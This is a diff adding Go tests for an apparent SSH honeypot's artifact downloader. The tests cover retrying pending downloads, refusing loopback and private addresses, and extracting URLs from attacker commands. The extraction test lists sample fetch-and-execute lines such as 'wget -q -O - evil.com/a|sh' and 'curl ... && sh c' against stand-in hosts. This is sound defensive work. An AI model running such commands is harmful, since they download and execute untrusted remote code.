@@ -0,0 +1,200 @@
+package sshhipot
+
+/*
+ * download_test.go
+ * Find URLs in commands
+ * By J. Stuart McMurray
+ * Created 20261018
+ * Last Modified 20261018
+ */
+
+import (
+	"bytes"
+	"encoding/json"
+	"io"
+	"io/ioutil"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestFetchPendingTries(t *testing.T) {
+	logDir := t.TempDir()
+	dir := filepath.Join(logDir, ARTIFACTDIR)
+	if err := os.MkdirAll(dir, 0700); nil != err {
+		t.Fatalf("Unable to make artifact directory: %v", err)
+	}
+
+	/* A lock file left by a crash shouldn't stop anything */
+	ln := filepath.Join(dir, PENDINGLOCK)
+	if err := ioutil.WriteFile(ln, nil, 0600); nil != err {
+		t.Fatalf("Unable to make lock file: %v", err)
+	}
+	old := time.Now().Add(-2 * PENDINGLOCKSTALE)
+	if err := os.Chtimes(ln, old, old); nil != err {
+		t.Fatalf("Unable to age lock file: %v", err)
+	}
+
+	/* URLs which can't be downloaded, one about to be given up on */
+	var b []byte
+	for _, src := range []ArtifactSource{
+		{URL: "tftp://198.51.100.1/a", Tries: DOWNLOADTRIES - 1},
+		{URL: "tftp://198.51.100.1/b"},
+	} {
+		j, err := json.Marshal(src)
+		if nil != err {
+			t.Fatalf("Unable to marshal %+v: %v", src, err)
+		}
+		b = append(append(b, j...), '\n')
+	}
+	pn := filepath.Join(dir, PENDINGNAME)
+	if err := ioutil.WriteFile(pn, b, 0600); nil != err {
+		t.Fatalf("Unable to write pending URLs: %v", err)
+	}
+
+	fetched, failed, err := FetchPending(logDir, "", "")
+	if 0 != fetched || 2 != failed || nil != err {
+		t.Fatalf(
+			"Fetched %v, %v failed, error %v",
+			fetched,
+			failed,
+			err,
+		)
+	}
+	for fn, want := range map[string]ArtifactSource{
+		PENDINGNAME: {URL: "tftp://198.51.100.1/b", Tries: 1},
+		FAILEDNAME: {
+			URL:   "tftp://198.51.100.1/a",
+			Tries: DOWNLOADTRIES,
+		},
+	} {
+		b, err := ioutil.ReadFile(filepath.Join(dir, fn))
+		if nil != err {
+			t.Errorf("Unable to read %v: %v", fn, err)
+			continue
+		}
+		var got ArtifactSource
+		if err := json.Unmarshal(b, &got); nil != err ||
+			1 != bytes.Count(b, []byte("\n")) ||
+			want.URL != got.URL ||
+			want.Tries != got.Tries ||
+			"" == got.Error {
+			t.Errorf("%v has %s, want %+v", fn, b, want)
+		}
+	}
+	if _, err := os.Stat(ln); !os.IsNotExist(err) {
+		t.Errorf("Lock file not removed: %v", err)
+	}
+}
+
+func TestDownloaderPublicOnly(t *testing.T) {
+	st, err := openArtifactStore(t.TempDir(), "", nil)
+	if nil != err {
+		t.Fatalf("Unable to open artifact store: %v", err)
+	}
+	defer st.Wait()
+
+	/* A proxy which serves malware.test and redirect.test, which
+	redirects to loopback */
+	ps := httptest.NewServer(http.HandlerFunc(func(
+		w http.ResponseWriter,
+		r *http.Request,
+	) {
+		switch r.URL.Host {
+		case "malware.test":
+			io.WriteString(w, TESTMALWARE)
+		case "redirect.test":
+			http.Redirect(
+				w,
+				r,
+				"http://127.0.0.1/",
+				http.StatusFound,
+			)
+		default:
+			http.Error(w, "wrong host", http.StatusBadGateway)
+		}
+	}))
+	defer ps.Close()
+
+	/* Without a proxy, only public addresses are allowed */
+	d, err := openDownloader(st, "", false)
+	if nil != err {
+		t.Fatalf("Unable to make downloader: %v", err)
+	}
+	for _, u := range []string{
+		ps.URL + "/bot.sh",
+		strings.Replace(ps.URL, "127.0.0.1", "localhost", 1),
+		"http://10.0.0.1/bot.sh",
+		"http://[::1]/bot.sh",
+		"ftp://198.51.100.1/bot.sh",
+	} {
+		if _, err := d.fetch(ArtifactSource{URL: u}); nil == err {
+			t.Errorf("Downloaded %v", u)
+		}
+	}
+
+	/* The proxy may be local, but not where it's asked to go */
+	if d, err = openDownloader(st, ps.URL, false); nil != err {
+		t.Fatalf("Unable to make proxied downloader: %v", err)
+	}
+	if _, err := d.fetch(ArtifactSource{
+		URL: "http://malware.test/bot.sh",
+	}); nil != err {
+		t.Errorf("Proxied download failed: %v", err)
+	}
+	for _, u := range []string{
+		"http://127.0.0.1/bot.sh",
+		"http://redirect.test/bot.sh",
+	} {
+		if _, err := d.fetch(ArtifactSource{URL: u}); nil == err {
+			t.Errorf("Downloaded %v via proxy", u)
+		}
+	}
+}
+
+func TestCommandURLs(t *testing.T) {
+	for _, c := range []struct {
+		line string
+		want []string
+	}{
+		{"uname -a", nil},
+		{"wget http://1.2.3.4/x.sh", []string{"http://1.2.3.4/x.sh"}},
+		{
+			"cd /tmp; wget -q -O - evil.com/a|sh; curl -sko a " +
+				"https://evil.com/b 2>&1",
+			[]string{"http://evil.com/a", "https://evil.com/b"},
+		},
+		{
+			"sudo /usr/bin/wget -P /tmp http://e.com/a >/dev/null",
+			[]string{"http://e.com/a"},
+		},
+		{
+			`sh -c "curl http://e.com/c -o c && sh c"`,
+			[]string{"http://e.com/c"},
+		},
+		{
+			"busybox tftp -g -r t2.sh -l t 1.2.3.4; " +
+				"tftp 1.2.3.4 69 -c get t1.sh",
+			[]string{
+				"tftp://1.2.3.4/t2.sh",
+				"tftp://1.2.3.4:69/t1.sh",
+			},
+		},
+		{
+			"ftpget -v -u anonymous -p x -P 21 1.2.3.4 f.sh f.sh",
+			[]string{"ftp://anonymous:x@1.2.3.4:21/f.sh"},
+		},
+		{"ftp ftp://1.2.3.4/f", []string{"ftp://1.2.3.4/f"}},
+		{"echo wget http://e.com/x", nil},
+		{"wget", nil},
+	} {
+		if got := commandURLs(c.line); !reflect.DeepEqual(got, c.want) {
+			t.Errorf("%q: got %q, expected %q", c.line, got, c.want)
+		}
+	}
+}